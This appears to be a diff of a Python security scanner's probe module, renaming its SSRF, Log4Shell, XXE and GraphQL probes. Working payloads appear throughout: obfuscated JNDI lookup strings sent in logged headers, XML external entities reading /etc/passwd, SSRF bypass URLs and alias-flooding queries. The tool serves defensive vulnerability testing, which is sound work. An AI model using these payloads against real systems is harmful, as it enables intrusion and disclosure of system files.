@@ -1,4 +1,4 @@
-"""Weaknesses that show by a call: the system under test is made to call a listener of ours."""
+"""Out-of-band weaknesses (SSRF, XXE, Log4Shell): the system under test is made to call a callback server of ours; GraphQL too."""
 
 from __future__ import annotations
 
@@ -7,18 +7,18 @@ import json
 import re
 from typing import Any, TYPE_CHECKING
 
-from SecurityLibrary.callback import Listener, PATIENCE, same_machine
+from SecurityLibrary.callback_server import CallbackServer, PATIENCE, same_machine
 from SecurityLibrary.findings import Severity
-from SecurityLibrary.insertion_points import Slot
+from SecurityLibrary.insertion_points import InsertionPoint
 from SecurityLibrary.objects import identifier_in
-from SecurityLibrary.probes.base import Probe, SlotProbe
+from SecurityLibrary.probes.base import InsertionPointProbe, Probe
 from theodore_qa.errors import NotEvaluatedError
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
     from SecurityLibrary.findings import Finding
-    from SecurityLibrary.operations import Operation, Parameter
+    from SecurityLibrary.operations import InsertableParameter, ScanOperation
     from SecurityLibrary.scan import Scan
     from theodore_qa.systems.exchange import Exchange
 
@@ -28,93 +28,96 @@ ADDRESSES = re.compile(
 
 
 @contextlib.contextmanager
-def listening(scan: Scan) -> Iterator[Listener]:
-    """A listener that the system under test can reach for certain; where that is not known, nothing is evaluated."""
-    told = scan.api.callback.host
-    if not told and not same_machine(scan.client.url):
+def reachable_callback_server(scan: Scan) -> Iterator[CallbackServer]:
+    """A callback server that the system under test can reach for certain; where that is not known, nothing is evaluated."""
+    host = scan.target.callback.host
+    if not host and not same_machine(scan.client.url):
         raise NotEvaluatedError(
-            "it is not known that the system under test can reach a listener here: name by 'callback: {host: ...}' in the API's "
-            "description the address at which this machine is reached from there"
+            "it is not known that the system under test can reach a callback server here: name by 'callback: {host: ...}' in the "
+            "API's description the address at which this machine is reached from there"
         )
-    listener = Listener(told or "127.0.0.1")
+    callback_server = CallbackServer(host or "127.0.0.1")
     try:
-        if told:
-            _prove(scan, listener)
-        yield listener
+        if host:
+            _prove(scan, callback_server)
+        yield callback_server
     finally:
-        listener.close()
+        callback_server.close()
 
 
-def _prove(scan: Scan, listener: Listener) -> None:
-    """Over the operation that is known to call out, let the listener be called once."""
-    known = scan.api.callback.control
+def _prove(scan: Scan, callback_server: CallbackServer) -> None:
+    """Let the server be called once by the operation that is known to call out."""
+    known = scan.target.callback.control
     label, _, name = known.rpartition(" ")
     if not known:
         raise NotEvaluatedError("the API's callback names no 'control', an operation and parameter that is known to call out")
-    operation = scan.api.operation(label)
-    parameter = next((one for one in operation.parameters if one.name == name), None)
-    token = listener.token()
+    operation = scan.target.operation(label)
+    parameter = next((parameter for parameter in operation.parameters if parameter.name == name), None)
+    token = callback_server.token()
     if parameter is None:
         raise NotEvaluatedError(f"the callback's control {known} is no operation with a parameter of that name")
-    scan.send(operation, scan.person(operation), {parameter: f"http://{listener.address}/{token}"})
-    if not listener.heard(token, 10):
-        raise NotEvaluatedError(f"the listener at {listener.address} was not reached from the system under test")
+    scan.sender.send(operation, scan.plan.identity_for(operation), {parameter: f"http://{callback_server.address}/{token}"})
+    if not callback_server.called(token, 10):
+        raise NotEvaluatedError(f"the callback server at {callback_server.address} was not reached from the system under test")
 
 
-class CallbackProbe(SlotProbe):
-    """A slot probe that decides by whether a listener is called: all is sent, then listened for, then confirmed."""
+class CallbackProbe(InsertionPointProbe):
+    """An insertion-point probe whose oracle is a callback: everything is sent, then awaited, then confirmed."""
 
     PAYLOADS: tuple[str, ...]
 
     def run(self, scan: Scan) -> Iterator[Finding]:
-        """Send to all slots, wait once for the calls, and send what called a second time."""
-        with listening(scan) as listener:
-            sent: dict[str, tuple[Slot, str]] = {}
+        """Send to all insertion points, wait once for the calls, and repeat what was called."""
+        with reachable_callback_server(scan) as callback_server:
+            sent: dict[str, tuple[InsertionPoint, str]] = {}
 
-            def send(scan: Scan, slot: Slot) -> Finding | None:
+            def send(scan: Scan, point: InsertionPoint) -> Finding | None:
                 for payload in self.PAYLOADS:
-                    token = listener.token()
-                    sent[token] = (slot, payload)
-                    answer = self.put(scan, slot, payload.format(address=listener.address, token=token))
-                    for follower, given in self.followers(scan, slot, answer):
-                        scan.send(follower, slot.person, given)
+                    token = callback_server.token()
+                    sent[token] = (point, payload)
+                    answer = self.put(scan, point, payload.format(address=callback_server.address, token=token))
+                    for follower, given in self.followers(scan, point, answer):
+                        scan.sender.send(follower, point.identity, given)
                 return None
 
-            yield from scan.over_slots(self, self.applies, send, rough=self.rough)
-            self.beyond(scan, listener, sent)
-            listener.settle()
+            yield from scan.over_insertion_points(self.id, self.applies, send, free_text=self.needs_free_text)
+            self.beyond(scan, callback_server, sent)
+            callback_server.settle()
             confirmed: set[str] = set()
-            for slot, payload in [what for token, what in sent.items() if listener.heard(token, 0)]:
-                if slot.place not in confirmed and (found := self._again(scan, slot, payload, listener)):
-                    confirmed.add(slot.place)
+            for point, payload in [what for token, what in sent.items() if callback_server.called(token, 0)]:
+                if point.location not in confirmed and (found := self._again(scan, point, payload, callback_server)):
+                    confirmed.add(point.location)
                     yield found
 
-    def _again(self, scan: Scan, slot: Slot, payload: str, listener: Listener) -> Finding | None:
+    def _again(self, scan: Scan, point: InsertionPoint, payload: str, callback_server: CallbackServer) -> Finding | None:
         """Send what called once more, and what follows it if need be."""
-        token = listener.token()
-        answer = self.put(scan, slot, payload.format(address=listener.address, token=token))
-        told = "the system called a listener whose address was sent, twice"
-        followers = self.followers(scan, slot, answer)
-        if listener.heard(token, PATIENCE if not followers else 1.0):
-            return self.finding(slot.place, told, answer)
+        token = callback_server.token()
+        answer = self.put(scan, point, payload.format(address=callback_server.address, token=token))
+        observed = "2 of 2 callbacks from the system under test"
+        followers = self.followers(scan, point, answer)
+        if callback_server.called(token, PATIENCE if not followers else 1.0):
+            return self.finding(point.location, observed, answer)
         for follower, given in followers:
-            triggered = scan.send(follower, slot.person, given)
-            if listener.heard(token):
-                return self.finding(
-                    (slot.place, str(follower)), f"{told}, the stored address when {follower} was sent", triggered
-                )
+            triggered = scan.sender.send(follower, point.identity, given)
+            if callback_server.called(token):
+                return self.finding((point.location, str(follower)), f"{observed}, the stored address on {follower}", triggered)
         return None
 
-    def followers(self, scan: Scan, slot: Slot, answer: Exchange) -> list[tuple[Operation, dict[Parameter, Any]]]:  # noqa: ARG002  # for those that store
+    def followers(
+        self,
+        scan: Scan,  # noqa: ARG002  # for probes whose values are stored
+        point: InsertionPoint,  # noqa: ARG002  # as above
+        answer: Exchange,  # noqa: ARG002  # as above
+    ) -> list[tuple[ScanOperation, dict[InsertableParameter, Any]]]:
         """The operations that may use what was just stored, with its identifier."""
         return []
 
-    def beyond(self, scan: Scan, listener: Listener, sent: dict[str, tuple[Slot, str]]) -> None:
-        """Send to what has no good value but the listener's own address."""
+    def beyond(self, scan: Scan, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]) -> None:
+        """Send to parameters without a good value but the server's own address."""
 
-    def put(self, scan: Scan, slot: Slot, value: str) -> Exchange:
+    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
         """Send one payload."""
-        return scan.put(slot, value)
+        return scan.sender.put(point, value)
 
 
 class Ssrf(CallbackProbe):
@@ -127,56 +130,63 @@ class Ssrf(CallbackProbe):
     cwe = 918
     owasp = ("A10:2021", "A01:2025", "API7:2023")
     tier = 2
-    rough = False
+    needs_free_text = False
     sends = (
-        "the address of an own listener on loopback into everything that looks like an address; then what names the object in "
+        "the address of a callback server on loopback into everything that looks like an address; then what names the object in "
         "which it was stored, such as POST /webhooks/{id}/test"
     )
-    decides = "the listener is called, twice, with other tokens"
+    oracle = "the callback server is called, twice, with other tokens"
     bad = 'httpx.get(body["image_url"])'
     good = "refuse hosts whose addresses are private, loopback or link-local; connect to the address that was checked"
-    mend = "Call only hosts of a list; resolve once, refuse private addresses, follow no redirects."
+    remediation = "Call only hosts of a list; resolve once, refuse private addresses, follow no redirects."
 
     FOLLOWERS = 4
     PAYLOADS = ("http://{address}/{token}", "http://{address}/{token}#.example.com", "//{address}/{token}", "{address}/{token}")
 
-    def applies(self, slot: Slot) -> bool:
+    def applies(self, point: InsertionPoint) -> bool:
         """What looks like an address by its name, its format or its value."""
-        return slot.textual and (_an_address(slot.parameter) or str(slot.value).startswith("http"))
+        return point.textual and (_an_address(point.parameter) or str(point.value).startswith("http"))
 
-    def followers(self, scan: Scan, slot: Slot, answer: Exchange) -> list[tuple[Operation, dict[Parameter, Any]]]:
+    def followers(
+        self, scan: Scan, point: InsertionPoint, answer: Exchange
+    ) -> list[tuple[ScanOperation, dict[InsertableParameter, Any]]]:
         """Operations below the path, with the identifier of what was made where the path has none yet."""
-        if slot.operation.safe or not answer.ok:
+        if point.operation.safe or not answer.ok:
             return []
-        found: list[tuple[Operation, dict[Parameter, Any]]] = []
-        for one in scan.api.operations:
-            below = one.path.removeprefix(slot.operation.path.rstrip("/") + "/")
-            if below == one.path or one.method not in ("GET", "POST") or scan.forbidden(one) or below.count("{") > 1:
+        found: list[tuple[ScanOperation, dict[InsertableParameter, Any]]] = []
+        for operation in scan.target.operations:
+            below = operation.path.removeprefix(point.operation.path.rstrip("/") + "/")
+            if (
+                below == operation.path
+                or operation.method not in ("GET", "POST")
+                or scan.plan.skip_reason(operation)
+                or below.count("{") > 1
+            ):
                 continue
             name = match[1] if (match := re.search(r"\{(\w+)\}", below)) else ""
-            parameter = next((each for each in one.parameters if each.location == "path" and each.name == name), None)
+            parameter = next((each for each in operation.parameters if each.location == "path" and each.name == name), None)
             identifier = identifier_in(answer.body, name) if parameter else None
             if parameter is None or identifier is not None:
-                found.append((one, {parameter: identifier} if parameter else {}))
+                found.append((operation, {parameter: identifier} if parameter else {}))
         return found[: self.FOLLOWERS]
 
-    def beyond(self, scan: Scan, listener: Listener, sent: dict[str, tuple[Slot, str]]) -> None:
+    def beyond(self, scan: Scan, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]) -> None:
         """Where only an address that answers is taken, ours is one."""
-        known = {slot.place for slot in scan.slots(self)}
-        for operation in scan.api.operations:
+        known = {point.location for point in scan.plan.insertion_points(self.id)}
+        for operation in scan.target.operations:
             for parameter in operation.parameters:
-                slot = Slot(operation, parameter, scan.person(operation), "", ())
-                if slot.place in known or not slot.textual or not _an_address(parameter) or scan.forbidden(operation):
+                point = InsertionPoint(operation, parameter, scan.plan.identity_for(operation), "", ())
+                if point.location in known or not point.textual or not _an_address(parameter) or scan.plan.skip_reason(operation):
                     continue
-                token = listener.token()
+                token = callback_server.token()
                 with contextlib.suppress(NotEvaluatedError):
-                    answer = self.put(scan, slot, f"http://{listener.address}/{token}")
-                    if answer.ok or listener.heard(token, 1.0):
-                        sent[token] = (slot, self.PAYLOADS[0])
-                        scan.tried(self, slot.place)
+                    answer = self.put(scan, point, f"http://{callback_server.address}/{token}")
+                    if answer.ok or callback_server.called(token, 1.0):
+                        sent[token] = (point, self.PAYLOADS[0])
+                        scan.coverage.tried(self.id, point.location)
 
 
-def _an_address(parameter: Parameter) -> bool:
+def _an_address(parameter: InsertableParameter) -> bool:
     return bool(ADDRESSES.search(parameter.name)) or parameter.schema.get("format") in ("uri", "url", "hostname")
 
 
@@ -190,18 +200,18 @@ class Log4Shell(CallbackProbe):
     cwe = 917
     owasp = ("A06:2021", "A03:2025")
     tier = 2
-    sends = "${jndi:ldap://...} with the address of an own listener, plain and disguised, in values and in usual headers"
-    decides = "the listener is called, twice, with other tokens"
+    sends = "${jndi:ldap://...} with the address of a callback server, plain and disguised, in values and in usual headers"
+    oracle = "the callback server is called, twice, with other tokens"
     bad = "log4j-core before 2.17.1"
     good = "log4j-core from 2.17.1 on"
-    mend = "Bring the logging library up to date; look-ups in messages must be off."
+    remediation = "Bring the logging library up to date; look-ups in messages must be off."
 
     PAYLOADS = ("${{jndi:ldap://{address}/{token}}}", "${{${{lower:j}}ndi:${{lower:l}}dap://{address}/{token}}}")
     HEADERS = ("User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For")
 
-    def put(self, scan: Scan, slot: Slot, value: str) -> Exchange:
+    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
         """In the value and in headers that are often logged, at once."""
-        return scan.put(slot, value, headers=dict.fromkeys(self.HEADERS, value))
+        return scan.sender.put(point, value, headers=dict.fromkeys(self.HEADERS, value))
 
 
 class Xxe(Probe):
@@ -214,43 +224,47 @@ class Xxe(Probe):
     cwe = 611
     owasp = ("A05:2021", "A02:2025")
     tier = 2
-    sends = "documents with an entity that stands for a file, and with one that stands for the address of an own listener"
-    decides = "the texts of two files come back, or the listener is called, twice"
+    sends = "documents with an entity that stands for a file, and with one that stands for the address of a callback server"
+    oracle = "the texts of two files come back, or the callback server is called, twice"
     bad = "etree.fromstring(body, etree.XMLParser(resolve_entities=True))"
     good = "defusedxml.ElementTree.fromstring(body)"
-    mend = "Switch document types and external entities off in the XML parser."
+    remediation = "Switch document types and external entities off in the XML parser."
 
     def run(self, scan: Scan) -> Iterator[Finding]:
         """Try every operation that takes XML."""
-        takers = [one for one in scan.api.operations if one.media and one.media.endswith("xml")]
+        takers = [operation for operation in scan.target.operations if operation.media and operation.media.endswith("xml")]
         if not takers:
             raise NotEvaluatedError("no operation takes XML")
         for operation in takers:
-            person = scan.person(operation)
-            control = scan.control(operation, person)
-            scan.tried(self, str(operation))
+            identity = scan.plan.identity_for(operation)
+            control = scan.plan.control(operation, identity)
+            scan.coverage.tried(self.id, str(operation))
             if read := self._files(scan, operation, control[0]):
-                yield self.finding(str(operation), "an entity stands for a file, whose text comes back", *read)
+                yield self.finding(str(operation), "2 of 2 files read through an external entity", *read)
                 continue
-            with contextlib.suppress(NotEvaluatedError), listening(scan) as listener:
-                tokens = [listener.token(), listener.token()]
+            with contextlib.suppress(NotEvaluatedError), reachable_callback_server(scan) as callback_server:
+                tokens = [callback_server.token(), callback_server.token()]
                 answers = [
-                    scan.send(operation, person, body=_document(operation.body, f"http://{listener.address}/{token}"))
+                    scan.sender.send(
+                        operation, identity, body=_document(operation.body, f"http://{callback_server.address}/{token}")
+                    )
                     for token in tokens
                 ]
-                if all(listener.heard(token, 1) for token in tokens):
-                    yield self.finding(str(operation), "an entity stands for an address, which is called", *answers)
+                if all(callback_server.called(token, 1) for token in tokens):
+                    yield self.finding(str(operation), "2 of 2 callbacks through an external entity", *answers)
 
     FILES = (("/etc/passwd", re.compile(r"root:[^:\n]*:0:0:")), ("/etc/group", re.compile(r"root:[^:\n]*:0:")))
     MOST_TEXTS = 6
 
-    def _files(self, scan: Scan, operation: Operation, control: Exchange) -> list[Exchange]:
+    def _files(self, scan: Scan, operation: ScanOperation, control: Exchange) -> list[Exchange]:
         """The answers that hold both files, for the first text of the document that brings them: others may be too short."""
         texts = len(TEXT.findall(str(operation.body or "<a>b</a>")))
-        for place in range(max(1, min(self.MOST_TEXTS, texts))):
+        for index in range(max(1, min(self.MOST_TEXTS, texts))):
             read = []
             for name, sign in self.FILES:
-                answer = scan.send(operation, scan.person(operation), body=_document(operation.body, f"file://{name}", place))
+                answer = scan.sender.send(
+                    operation, scan.plan.identity_for(operation), body=_document(operation.body, f"file://{name}", index)
+                )
                 if sign.search(answer.text) and not sign.search(control.text):
                     read.append(answer)
             if len(read) == len(self.FILES):
@@ -261,12 +275,12 @@ class Xxe(Probe):
 TEXT = re.compile(r">([^<>]*[^<>\s][^<>]*)<")
 
 
-def _document(good: object, source: str, place: int = 0) -> bytes:
+def _document(good: object, source: str, index: int = 0) -> bytes:
     """The operation's good document with an entity in place of one of its texts."""
     text = re.sub(r"<\?xml.*?\?>", "", str(good or "<a>b</a>"))
     root = re.search(r"<(\w+)", text)
     texts = list(TEXT.finditer(text))
-    start, end = texts[place].span(1) if texts else (0, 0)
+    start, end = texts[index].span(1) if texts else (0, 0)
     with_entity = f"{text[:start]}&qa;{text[end:]}" if texts else text
     return f'<?xml version="1.0"?><!DOCTYPE {root[1] if root else "a"} [<!ENTITY qa SYSTEM "{source}">]>{with_entity}'.encode()
 
@@ -282,35 +296,41 @@ class Graphql(Probe):
     owasp = ("A05:2021", "A02:2025", "API4:2023")
     tier = 2
     sends = "an introspection query; a list of 20 queries; a query with 200 aliases"
-    decides = "the schema comes back, twice; all 20 and all 200 are answered"
+    oracle = "the schema comes back, twice; all 20 and all 200 are answered"
     bad = "GraphQL(schema)"
     good = "GraphQL(schema, introspection=False, validation_rules=[max_aliases(15)])"
-    mend = "Switch introspection off outside development; limit batches, aliases and depth."
+    remediation = "Switch introspection off outside development; limit batches, aliases and depth."
 
     BATCH, ALIASES = 20, 200
 
     def run(self, scan: Scan) -> Iterator[Finding]:
         """Try operations whose path says GraphQL."""
-        found = {one.route: one for one in scan.api.operations if one.method == "POST" and "graphql" in one.path.lower()}
+        found = {
+            operation.route: operation
+            for operation in scan.target.operations
+            if operation.method == "POST" and "graphql" in operation.path.lower()
+        }
         if not found:
             raise NotEvaluatedError("no operation speaks GraphQL")
         for operation in found.values():
             control = self._ask(scan, operation, {"query": "{__typename}"})
             if not control.ok or "data" not in (control.body or {}):
-                scan.left_out(self, str(operation), "the control query {__typename} was not answered")
+                scan.coverage.skip(self.id, str(operation), "the control query {__typename} was not answered")
                 continue
-            scan.tried(self, str(operation))
-            told = [self._ask(scan, operation, {"query": f"{{__schema{{{what}{{name}}}}}}"}) for what in ("types", "queryType")]
-            if all((one.body or {}).get("data", {}).get("__schema") for one in told):
-                yield self.finding(str(operation), "the schema is told to whoever asks", *told)
+            scan.coverage.tried(self.id, str(operation))
+            schemas = [
+                self._ask(scan, operation, {"query": f"{{__schema{{{what}{{name}}}}}}"}) for what in ("types", "queryType")
+            ]
+            if all((answer.body or {}).get("data", {}).get("__schema") for answer in schemas):
+                yield self.finding(str(operation), "introspection returns the schema", *schemas)
             batch = self._ask(scan, operation, [{"query": "{__typename}"}] * self.BATCH)
             if isinstance(batch.body, list) and len(batch.body) == self.BATCH:
-                yield self.finding(str(operation), f"{self.BATCH} queries in one request are all answered", batch)
+                yield self.finding(str(operation), f"{self.BATCH} of {self.BATCH} queries in one request answered", batch)
             many = "{" + " ".join(f"a{number}:__typename" for number in range(self.ALIASES)) + "}"
             aliases = self._ask(scan, operation, {"query": many})
             if isinstance(aliases.body, dict) and len(aliases.body.get("data") or {}) == self.ALIASES:
-                yield self.finding(str(operation), f"{self.ALIASES} aliases in one query are all answered", aliases)
+                yield self.finding(str(operation), f"{self.ALIASES} of {self.ALIASES} aliases in one query answered", aliases)
 
     @staticmethod
-    def _ask(scan: Scan, operation: Operation, query: Any) -> Exchange:
-        return scan.send(operation, scan.person(operation), body=json.dumps(query).encode())
+    def _ask(scan: Scan, operation: ScanOperation, query: Any) -> Exchange:
+        return scan.sender.send(operation, scan.plan.identity_for(operation), body=json.dumps(query).encode())
